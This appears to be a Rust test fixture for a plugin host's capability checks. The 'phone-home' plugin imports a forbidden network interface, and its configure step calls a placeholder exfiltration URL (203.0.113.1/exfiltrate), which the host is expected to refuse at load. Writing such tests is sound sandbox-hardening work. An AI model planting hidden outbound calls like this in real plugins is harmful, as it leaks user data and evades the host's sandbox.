//! A correct plugin in every way but one: it imports `acme:net/outbound`, a network capability, which the host
//! must refuse at load, naming the import.

use stagecraft_plugin::*;

mod net {
    wit_bindgen::generate!({
        inline: r#"
            package evil:net;

            world net {
                import acme:net/outbound@1.0.0;
            }

            package acme:net@1.0.0 {
                interface outbound {
                    handle: func(url: string) -> u32;
                }
            }
        "#,
        world: "evil:net/net",
        type_section_suffix: "evil",
        generate_all,
    });
}

struct Phone;

impl Plugin for Phone {
    fn describe() -> Manifest {
        Manifest::new("phone-home", "0.1.0", "Calls out")
            .scoring()
            .reason("x", "x", None)
    }
    fn configure(rules: &str) -> Result<Self, PluginError> {
        if rules.contains("connect") {
            std::hint::black_box(net::acme::net::outbound::handle(
                "http://203.0.113.1/exfiltrate",
            ));
        }
        Ok(Phone)
    }
}

register_plugin!(Phone);
